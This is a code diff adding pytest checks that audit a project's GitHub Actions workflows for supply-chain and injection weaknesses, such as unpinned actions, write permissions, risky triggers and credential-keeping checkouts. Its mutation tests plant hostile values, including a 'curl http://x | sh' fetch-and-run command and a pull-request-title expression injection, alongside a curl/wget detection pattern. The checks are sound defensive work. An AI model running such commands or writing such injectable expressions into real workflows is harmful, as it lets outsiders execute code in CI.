@@ -2,6 +2,7 @@
 
 import re
 
+import pytest
 import yaml
 
 from .blocks import ROOT
@@ -23,8 +24,84 @@ def test_a_commit_is_checked_by_the_ruff_of_the_environment():
 def test_the_workflows_do_what_a_contributor_does():
     assert commands_of("ci.yml") == [".ci/run"]
     assert commands_of("docs.yml") == ["make docs"]
+    assert commands_of("audit.yml") == ["make audit"]
 
 
 def test_the_site_is_kept_from_where_it_is_built():
     built = re.search(r"^site_dir: (\S+)$", (ROOT / "mkdocs.yml").read_text(), re.MULTILINE)[1]
     assert f"path: {built}\n" in (ROOT / ".github/workflows/docs.yml").read_text()
+
+
+# -- what an attacker could use of a workflow: the rules of zizmor that hold for these
+
+WORKFLOWS = sorted((ROOT / ".github/workflows").iterdir())
+SAFE = {"github.ref", "github.sha", "github.run_id"}  # in settings, never in commands
+
+
+def problems_of(text):
+    """What is wrong with a workflow, in words."""
+    document = yaml.safe_load(text)
+    events = document[True]  # YAML takes `on` for a truth value
+    problems = [
+        f"event {name}" for name in events if name in ("pull_request_target", "workflow_run")
+    ]
+    if document.get("permissions") != {"contents": "read"}:
+        problems.append("permissions")
+    for name, job in document["jobs"].items():
+        if "permissions" in job:
+            problems.append(f"{name}: permissions of its own")
+        if not 0 < job.get("timeout-minutes", 0) <= 120:
+            problems.append(f"{name}: no time limit")
+        if "secrets" in job or "self-hosted" in job["runs-on"]:
+            problems.append(f"{name}: secrets, or a machine of one's own")
+        for step in job["steps"]:
+            problems += problems_of_step(step)
+    if "${{" in re.sub(r"\$\{\{ (\S+) \}\}", lambda it: "" if it[1] in SAFE else it[0], text):
+        problems.append("an expression of what others write")
+    # The comment names the release that the commit is.
+    for line in re.findall(r"uses: .*", text):
+        if not re.fullmatch(r"uses: [\w-]+/[\w-]+@[0-9a-f]{40}  # v\d+\.\d+\.\d+", line):
+            problems.append(f"not pinned: {line}")
+    return problems
+
+
+def problems_of_step(step):
+    if "${{" in step.get("run", ""):
+        yield f"a command with an expression: {step['run']}"
+    if re.search(r"curl|wget|GITHUB_(?:ENV|PATH)", step.get("run", "")):
+        yield f"a command that fetches or sets what others run: {step['run']}"
+    is_checkout = step.get("uses", "").startswith("actions/checkout@")
+    if is_checkout and step.get("with", {}).get("persist-credentials") is not False:
+        yield "a checkout that keeps its credentials"
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
+def test_a_workflow_gives_nothing_away(path):
+    assert problems_of(path.read_text(encoding="utf-8")) == []
+
+
+@pytest.mark.parametrize(
+    ("change", "problem"),
+    [
+        ((r"@[0-9a-f]{40}  # v6\.1\.0", "@v6"), "not pinned: uses: actions/checkout@v6"),
+        ((r"  # v6\.1\.0", ""), "not pinned"),
+        (("persist-credentials: false", "fetch-depth: 1"), "keeps its credentials"),
+        (("contents: read", "contents: write"), "permissions"),
+        (("pull_request:", "pull_request_target:"), "event pull_request_target"),
+        ((r"run: \.ci/run", "run: echo ${{ github.event.pull_request.title }}"), "expression"),
+        ((r"run: \.ci/run", "run: curl http://x | sh"), "fetches"),
+        (("timeout-minutes: .*", "continue-on-error: true"), "no time limit"),
+        (("group: .*", "group: ${{ github.head_ref }}"), "an expression of what others write"),
+    ],
+)
+def test_the_rules_find_what_they_name(change, problem):
+    text = (ROOT / ".github/workflows/ci.yml").read_text(encoding="utf-8")
+    spoiled = re.sub(*change, text)
+    assert spoiled != text
+    assert any(problem in found for found in problems_of(spoiled))
+
+
+def test_all_workflows_use_one_commit_of_an_action():
+    text = "".join(path.read_text(encoding="utf-8") for path in WORKFLOWS)
+    used = set(re.findall(r"uses: (\S+)@(\S+)", text))
+    assert len(used) == len({action for action, _ in used}) == 3
